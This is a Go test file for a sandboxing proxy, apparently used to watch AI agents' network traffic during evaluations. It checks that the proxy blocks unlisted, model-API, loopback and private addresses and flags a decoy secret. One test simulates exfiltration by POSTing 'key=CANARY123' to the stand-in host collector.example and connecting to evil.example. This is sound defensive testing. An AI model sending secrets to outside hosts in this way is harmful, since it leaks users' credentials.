package proxy

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/netip"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/metahub-ai/attest/behave"
)

func start(t *testing.T, p *Proxy) string {
	t.Helper()
	dir, err := p.Start()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	return filepath.Join(dir, filepath.Base(behave.ProxySocket))
}

// send writes a raw request to the proxy and returns the status line and
// the connection.
func send(t *testing.T, sock, req string) (string, net.Conn, *bufio.Reader) {
	t.Helper()
	c, err := net.Dial("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	c.SetDeadline(time.Now().Add(10 * time.Second))
	io.WriteString(c, req)
	br := bufio.NewReader(c)
	line, _ := br.ReadString('\n')
	return strings.TrimSpace(line), c, br
}

func lastEvent(t *testing.T, p *Proxy) behave.NetEvent {
	t.Helper()
	for i := 0; i < 100; i++ {
		ev, _ := p.Events()
		if len(ev) > 0 && (ev[len(ev)-1].Reason != "" || ev[len(ev)-1].Allowed) {
			return ev[len(ev)-1]
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatal("no event")
	return behave.NetEvent{}
}

// Deny by default, model hosts never, private addresses never.
func TestRefusals(t *testing.T) {
	p := &Proxy{Allow: []string{"api.anthropic.com", "localhost"}, Canary: "CANARY123"}
	sock := start(t, p)
	p.Tag("case-1")
	if line, _, _ := send(t, sock, "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"); !strings.Contains(line, "403") {
		t.Fatalf("%s", line)
	}
	if e := lastEvent(t, p); e.Allowed || e.Host != "evil.example" || e.Port != 443 || e.Case != "case-1" || !strings.Contains(e.Reason, "allowlist") {
		t.Fatalf("%+v", e)
	}
	if line, _, _ := send(t, sock, "CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: api.anthropic.com:443\r\n\r\n"); !strings.Contains(line, "403") {
		t.Fatalf("%s", line)
	}
	if e := lastEvent(t, p); e.Allowed || !strings.Contains(e.Reason, "model API") {
		t.Fatalf("%+v", e)
	}
	// An allowed name that resolves to loopback is still refused.
	if line, _, _ := send(t, sock, "CONNECT localhost:80 HTTP/1.1\r\nHost: localhost:80\r\n\r\n"); !strings.Contains(line, "403") {
		t.Fatalf("%s", line)
	}
	if e := lastEvent(t, p); e.Allowed || !strings.Contains(e.Reason, "loopback") {
		t.Fatalf("%+v", e)
	}
	// A plain POST to a refused host: the body was offered, and it held the
	// decoy.
	body := "key=CANARY123"
	if line, _, _ := send(t, sock, fmt.Sprintf("POST http://collector.example/u HTTP/1.1\r\nHost: collector.example\r\nContent-Length: %d\r\n\r\n%s", len(body), body)); !strings.Contains(line, "403") {
		t.Fatalf("%s", line)
	}
	if e := lastEvent(t, p); e.Allowed || !e.Canary || e.BytesOut != int64(len(body)) || e.Method != "POST" {
		t.Fatalf("%+v", e)
	}
	for _, a := range []string{"10.0.0.1", "169.254.169.254", "127.0.0.1", "::1", "fd00:ec2::254", "100.64.1.1"} {
		if Public(netip.MustParseAddr(a)) {
			t.Errorf("%s counted as public", a)
		}
	}
	if !Public(netip.MustParseAddr("8.8.8.8")) {
		t.Error("8.8.8.8 not public")
	}
}

// An allowed host is tunnelled, its bytes counted, and the decoy seen in a
// plaintext stream.
func TestTunnel(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		buf := make([]byte, 64)
		n, _ := c.Read(buf)
		c.Write([]byte("echo:" + string(buf[:n])))
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	p := &Proxy{Allow: []string{"pkgs.example"}, Canary: "CANARY123",
		Resolve: func(context.Context, string) ([]netip.Addr, error) {
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		},
		Permit: func(netip.Addr) bool { return true }}
	sock := start(t, p)
	line, c, br := send(t, sock, fmt.Sprintf("CONNECT pkgs.example:%d HTTP/1.1\r\nHost: pkgs.example\r\n\r\n", port))
	if !strings.Contains(line, "200") {
		t.Fatalf("%s", line)
	}
	br.ReadString('\n') // the blank line
	io.WriteString(c, "hello CANARY123")
	got := make([]byte, 64)
	n, _ := io.ReadAtLeast(br, got, len("echo:hello CANARY123"))
	if string(got[:n]) != "echo:hello CANARY123" {
		t.Fatalf("%q", got[:n])
	}
	c.Close()
	time.Sleep(100 * time.Millisecond)
	ev, _ := p.Events()
	if len(ev) != 1 || !ev[0].Allowed || !ev[0].Canary || ev[0].BytesOut != 15 || ev[0].BytesIn != 20 {
		t.Fatalf("%+v", ev)
	}
}
